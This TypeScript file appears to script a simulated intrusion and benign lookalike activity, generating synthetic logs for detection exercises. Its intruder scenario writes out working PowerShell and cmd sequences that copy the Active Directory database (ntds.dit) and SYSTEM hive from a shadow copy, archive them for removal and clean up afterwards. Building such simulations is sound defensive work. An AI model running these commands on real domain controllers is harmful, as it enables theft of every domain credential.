/**
 * Two years: every few months somebody comes back for the directory as it then is, and needs nothing for it but a
 * PowerShell prompt. In between an account out of it is tried.
 */
import { core, Hands, machinesOf, weak } from '../acts/intruder.ts';
import { readFiles } from '../acts/network.ts';
import { Prompt } from '../acts/powershell.ts';
import { closeRemoteDesktop, openRemoteDesktop } from '../acts/remote-desktop.ts';
import { closeTunnel, openTunnel } from '../acts/vpn.ts';
import { esent } from '../events/index.ts';
import type { Note } from '../record.ts';
import { Session } from '../session.ts';
import { day, hour, minute, second } from '../time.ts';
import type { Account } from '../world/site.ts';
import { dullWords, plantFiles } from '../world/words.ts';
import type { World } from '../world/world.ts';
import { atServer, promoteFromMedia, restoreTest, working } from './lookalikes.ts';
import type { Scenario } from './scenario.ts';

const logs = {
  dc: { processes: 'lines', shares: 'files', scripts: true, sysmon: false, objects: false },
  jump: { processes: 'lines', scripts: true, sysmon: false },
  file: { shares: 'files', scripts: true, collected: true },
  app: { collected: true, scripts: true, processes: 'lines' },
  backup: { collected: true, processes: 'lines' },
} as const;

/** A moment at this share of the drill, give or take some days; any hour. */
function around(world: World, random: Hands['random'], share: number): number {
  const { calendar } = world;
  return Math.round(calendar.first + (share + random.next() * 0.02) * calendar.days * day);
}

type Texts = {
  readonly make: string;
  readonly find: string;
  readonly copy: readonly string[];
  readonly pack: string;
  readonly remove: string;
};

/** The same theft as it is typed one time or another. */
function textsOf(style: number, device: string, folder: string, archive: string): Texts {
  const link = `${folder}\\s`;
  const styles: readonly Texts[] = [
    {
      make: '(Get-WmiObject -List Win32_ShadowCopy).Create("C:\\","ClientAccessible")',
      find:
        '$s = Get-WmiObject Win32_ShadowCopy | Sort-Object InstallDate | Select-Object -Last 1; $d = $s.DeviceObject + "\\"; cmd /c mklink /d ' +
        `${link} $d`,
      copy: [
        `Copy-Item ${link}\\Windows\\NTDS\\ntds.dit ${folder}\\n.dat`,
        `Copy-Item ${link}\\Windows\\System32\\config\\SYSTEM ${folder}\\y.dat`,
      ],
      pack: `Compress-Archive -Path ${folder}\\*.dat -DestinationPath ${archive}`,
      remove: `cmd /c rmdir ${link}; $s.Delete(); Remove-Item ${folder} -Recurse -Force`,
    },
    {
      make: "$r = Invoke-CimMethod -ClassName Win32_ShadowCopy -MethodName Create -Arguments @{Volume='C:\\'; Context='ClientAccessible'}",
      find: `$v = Get-CimInstance Win32_ShadowCopy -Filter "ID='$($r.ShadowID)'"`,
      copy: [
        `[IO.File]::Copy($v.DeviceObject + '\\Windows\\NTDS\\ntds.dit', '${folder}\\1.tmp')`,
        `[IO.File]::Copy($v.DeviceObject + '\\Windows\\System32\\config\\SYSTEM', '${folder}\\2.tmp')`,
      ],
      pack: `Add-Type -A System.IO.Compression.FileSystem; [IO.Compression.ZipFile]::CreateFromDirectory('${folder}', '${archive}')`,
      remove: `$v | Remove-CimInstance; del ${folder} -r -fo`,
    },
    {
      make: '$x=(gwmi -list win32_shadowcopy).create("C:\\","ClientAccessible");$x.ShadowID',
      find: 'gwmi win32_shadowcopy | ft DeviceObject,InstallDate',
      copy: [
        `cmd /c copy ${device}\\Windows\\NTDS\\ntds.dit ${folder}\\a`,
        `cmd /c copy ${device}\\Windows\\System32\\config\\SYSTEM ${folder}\\b`,
      ],
      pack: `Compress-Archive ${folder}\\a,${folder}\\b ${archive} -CompressionLevel Fastest`,
      remove: `ri ${folder} -r; (gwmi win32_shadowcopy | ? {$_.ID -eq $x.ShadowID}).Delete()`,
    },
  ];
  return styles[style % styles.length]!;
}

/** One return: in over the VPN, through the jump host, the directory as it is today, and out. */
function takeAgain(world: World, hands: Hands, account: Account, user: string, turn: number): void {
  const { jump } = machinesOf(world);
  const dc = world.the('dc', hands.random.chance(0.3) ? 1 : 0);
  const names = world.names.fork(`return ${turn}`);
  const place = names.pick(['C:\\Windows\\Temp', 'C:\\PerfLogs', 'C:\\ProgramData', 'C:\\Users\\Public']);
  const [word, other] = names.some(dullWords, 2);
  const folder = `${place}\\${word!}`;
  const archive = `${place}\\${other!}.zip`;
  const reused = turn > 2;
  const tunnel = hands.enter(user, world.outside.address());
  const note = core(reused ? 'VT-PE-01' : 'VT-LM-04');
  const outer = hands.desktop({ origin: tunnel.inner, to: jump, account, note });
  hands.pause(20, 240);
  const inner = hands.desktop({ from: outer, to: dc, account, note: core('VT-LM-04') });
  const prompt = new Prompt(world, inner, hands.pause(10, 60));
  const type = (text: string, note: Note): void => prompt.enter(hands.pause(12, 110), text, note);
  if (hands.random.chance(0.6)) {
    type('Get-ADDomainController -Filter * | select Name,IPv4Address,OperatingSystem', weak('VT-DI-04'));
  }
  type(`mkdir ${folder}`, weak('VT-ST-03'));
  const number = 2 + turn * 3 + hands.random.whole(0, 2);
  const device = `\\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy${number}`;
  const texts = textsOf(turn, device, folder, archive);
  type(texts.make, core('VT-CA-02'));
  prompt.shadow(hands.time + 400_000, number, weak('VT-CA-02'));
  hands.pause(9, 20);
  type(texts.find, weak('VT-CA-02'));
  if (texts.find.includes('mklink')) {
    inner.run(
      hands.time + 300_000,
      'cmd.exe',
      `"C:\\Windows\\system32\\cmd.exe" /c mklink /d ${folder}\\s ${device}\\`,
      { parent: prompt.process, note: core('VT-CA-02') },
    );
  }
  for (const text of texts.copy) {
    type(text, core('VT-CA-02'));
    if (!text.startsWith('cmd ')) continue;
    const words = `"C:\\Windows\\system32\\cmd.exe" ${text.slice(4)}`;
    inner.run(hands.time + 200_000, 'cmd.exe', words, { parent: prompt.process, note: core('VT-CA-02') });
  }
  hands.pause(20, 200);
  type(texts.pack, core('VT-ST-01'));
  readFiles(world, {
    to: dc,
    account,
    origin: world.originOf(jump),
    time: hands.pause(60, 500),
    share: 'C$',
    files: [{ file: archive.slice(3), note: core('VT-ST-06') }],
    cause: hands.cause,
  });
  hands.pause(120, 900);
  type(texts.remove, weak('VT-DE-02'));
  type(`Remove-Item ${archive}`, weak('VT-DE-02'));
  hands.closeDesktop(inner);
  hands.closeDesktop(outer);
  hands.leave(tunnel);
}

/** An account out of it is tried, and a few files are read that say where the plant stands now. */
function tryAccount(world: World, hands: Hands, account: Account): void {
  const { files, jump } = machinesOf(world);
  const tunnel = hands.enter(account.name, world.outside.address());
  const session = hands.desktop({ origin: tunnel.inner, to: jump, account, note: core('VT-PE-01') });
  readFiles(world, {
    to: files,
    account,
    origin: world.originOf(jump),
    time: hands.pause(60, 400),
    share: world.site.plantShare,
    files: hands.random.some(plantFiles, 3).map(file => ({ file, note: weak('VT-DI-13') })),
    cause: hands.cause,
  });
  hands.pause(100, 700);
  hands.closeDesktop(session);
  hands.leave(tunnel);
}

export const scriptedReturns: Scenario = {
  name: 'scripted-returns',
  twin: 'scripted-returns-quiet',
  kind: 'intrusion',
  state: 'open',
  summary: '',
  days: 700,
  site: { logs, pace: 0.07 },
  play(world) {
    scriptedArchives(world);
    lostDocuments(world);
    const { admins, backup, inventory } = world.site;
    const [one, two] = admins;
    const hands = new Hands(
      world,
      'returns',
      'an intruder came back every few months for two years and copied the directory at a PowerShell prompt',
      0,
    );
    const at = (share: number): void => {
      hands.time = around(world, hands.random, share);
    };
    at(0.06);
    takeAgain(world, hands, one!.admin!, one!.account.name, 0);
    at(0.27);
    takeAgain(world, hands, one!.admin!, one!.account.name, 1);
    at(0.41);
    tryAccount(world, hands, inventory);
    at(0.53);
    takeAgain(world, hands, two!.admin!, two!.account.name, 2);
    at(0.74);
    takeAgain(world, hands, backup, backup.name, 3);
    at(0.93);
    takeAgain(world, hands, backup, backup.name, 4);
  },
};

/** Twice a year the restore plan is gone through: the directory is taken from a shadow copy and opened elsewhere. */
function recoveryExercise(world: World): void {
  const cause = world.recorder.cause(
    'lookalike',
    'the restore plan is exercised: the directory is copied from a shadow copy and checked on the backup server',
    'a named person from the own desk in working hours on planned days, into the folder of the exercise; it goes to the backup server and is not packed',
    'VT-CA-02',
  );
  const { dc } = machinesOf(world);
  const backup = world.the('backup');
  const folder = world.names.fork('exercise').pick(['E:\\DRTest', 'D:\\DR-Exercise', 'D:\\Recovery\\test']);
  for (const [i, share] of [0.18, 0.43, 0.68, 0.9].entries()) {
    const time = working(world, share, `exercise ${i}`);
    atServer(world, { to: dc, time, cause }, (session, begin) => {
      const prompt = new Prompt(world, session, begin);
      let at = begin + 20 * second;
      prompt.enter(at, '$made = (Get-WmiObject -List Win32_ShadowCopy).Create("C:\\", "ClientAccessible")');
      const device = prompt.shadow(at + 400_000, 2 + i * 4);
      at += 90 * second;
      const to = `${folder}\\${i + 1}`;
      for (const text of [
        `New-Item -ItemType Directory -Path ${to}`,
        `cmd /c copy "${device}\\Windows\\NTDS\\ntds.dit" ${to}\\`,
        `cmd /c copy "${device}\\Windows\\System32\\config\\SYSTEM" ${to}\\`,
      ]) {
        prompt.enter(at, text);
        if (text.startsWith('cmd')) {
          session.run(at + 200_000, 'cmd.exe', `"C:\\Windows\\system32\\cmd.exe" ${text.slice(4)}`, {
            parent: prompt.process,
          });
        }
        at += 2 * minute;
      }
      world.recorder.ambient = cause;
      readFiles(world, {
        to: dc,
        account: session.account,
        origin: world.originOf(backup),
        time: at,
        share: `${folder[0]!}$`,
        files: ['ntds.dit', 'SYSTEM'].map(file => `${to.slice(3)}\\${file}`),
      });
      world.recorder.ambient = null;
      return at + 10 * minute;
    });
    atServer(world, { to: backup, time: time + hour, cause }, (session, at) => {
      const path = 'E:\\Exercise\\ntds.dit';
      const tool = session.run(at, 'esentutl.exe', `esentutl  /g ${path}`, { life: 5 * minute });
      const { attached, detached } = esent.directoryEngine;
      backup.write(attached(backup.host, at + 2 * second, tool.pid, path), cause);
      backup.write(detached(backup.host, at + 70 * second, tool.pid, path, 1), cause);
      return at + 6 * minute;
    });
  }
}

/** Logs of a web application are packed by a script every week, and somebody's old folders by hand. */
function scriptedArchives(world: World): void {
  const cause = world.recorder.cause(
    'lookalike',
    'a script packs last week and removes what it packed',
    'a scheduled task of the task account with the same script every week; logs of the application are all it packs',
    'VT-ST-01',
  );
  const app = world.the('app');
  const random = world.random.fork('scripted archives');
  for (const dayNumber of world.days()) {
    if (world.calendar.weekday(dayNumber) !== 6) continue;
    const time = world.calendar.at(dayNumber, 1.2) + random.whole(1, 20) * second;
    const session = new Session({ machine: app, account: world.site.tasks, type: 4, time, cause });
    const script = 'D:\\Jobs\\pack-logs.ps1';
    const words = `powershell.exe -NoProfile -ExecutionPolicy Bypass -File ${script}`;
    const prompt = new Prompt(world, session, time + second, words, { by: 'task' });
    const text = `$to = "E:\\LogArchive\\web-$(Get-Date -f yyyyMMdd).zip"; Compress-Archive -Path D:\\Logs\\web\\*.log -DestinationPath $to; Remove-Item D:\\Logs\\web\\*.log -Force`;
    prompt.enter(time + 3 * second, text, undefined, script);
    session.close(time + 4 * minute);
  }
}

/** Lost documents come back out of a shadow copy of the file server, at a PowerShell prompt. */
function lostDocuments(world: World): void {
  const cause = world.recorder.cause(
    'lookalike',
    'documents that somebody lost are taken out of a shadow copy and sent as an archive',
    'documents of the share and nothing of the system, by an administrator in working hours',
    'VT-CA-02',
  );
  const files = world.the('file');
  const { share } = world.site;
  for (const [i, at] of [0.12, 0.34, 0.57, 0.8].entries()) {
    const [, person] = world.site.admins;
    const of = { person: person!, to: files, time: working(world, at, `lost ${i}`), cause };
    atServer(world, of, (session, begin) => {
      const prompt = new Prompt(world, session, begin);
      prompt.enter(
        begin + 9 * second,
        'Get-WmiObject Win32_ShadowCopy | Select-Object DeviceObject,InstallDate',
      );
      prompt.enter(
        begin + 80 * second,
        `cmd /c mklink /d D:\\snap \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy${4 + i}\\`,
      );
      prompt.enter(
        begin + 3 * minute,
        `Copy-Item D:\\snap\\Shares\\${share}\\Budget -Recurse D:\\Restore\\ticket; Compress-Archive D:\\Restore\\ticket D:\\Restore\\ticket.zip`,
      );
      prompt.enter(begin + 9 * minute, 'cmd /c rmdir D:\\snap; Remove-Item D:\\Restore\\ticket -Recurse');
      return begin + 11 * minute;
    });
  }
}

/** Somebody works as the backup account over the VPN, when an upgrade of the backup fails. */
function backupUpgrade(world: World): void {
  const cause = world.recorder.cause(
    'lookalike',
    'an administrator works as the backup account on the backup server during an upgrade at night',
    'from the own line at home, on the server that the account is for; it reads nothing and leaves nothing',
    'VT-PE-01',
  );
  const [person] = world.site.admins;
  const { account, home } = person!;
  for (const share of [0.36, 0.85]) {
    const time = world.calendar.at(world.dayAt(share), 20.5);
    const tunnel = openTunnel(world, {
      user: account.name,
      address: home.address,
      machine: home.machine,
      time: time - 5 * minute,
      cause,
    });
    const session = openRemoteDesktop(world, {
      origin: tunnel.inner,
      to: world.the('backup'),
      account: world.site.backup,
      time,
      cause,
    });
    const prompt = new Prompt(world, session, time + 2 * minute);
    prompt.enter(time + 3 * minute, 'Get-Service *backup* | Restart-Service -PassThru');
    prompt.enter(time + 30 * minute, 'Get-EventLog Application -Newest 30 | ft -Wrap');
    closeRemoteDesktop(session, time + hour);
    closeTunnel(world, tunnel, time + hour + minute, cause);
  }
}

export const scriptedReturnsQuiet: Scenario = {
  name: 'scripted-returns-quiet',
  twin: 'scripted-returns',
  kind: 'quiet',
  state: 'open',
  summary: '',
  days: 700,
  site: { logs, pace: 0.07, habits: { ifmBackup: true, logonReport: true, hiveBackup: true } },
  moving: { moves: 0.1, travels: 0.15, phone: 0.1 },
  play(world) {
    recoveryExercise(world);
    scriptedArchives(world);
    lostDocuments(world);
    backupUpgrade(world);
    promoteFromMedia(world, 0.5);
    restoreTest(world, 0.63);
  },
};
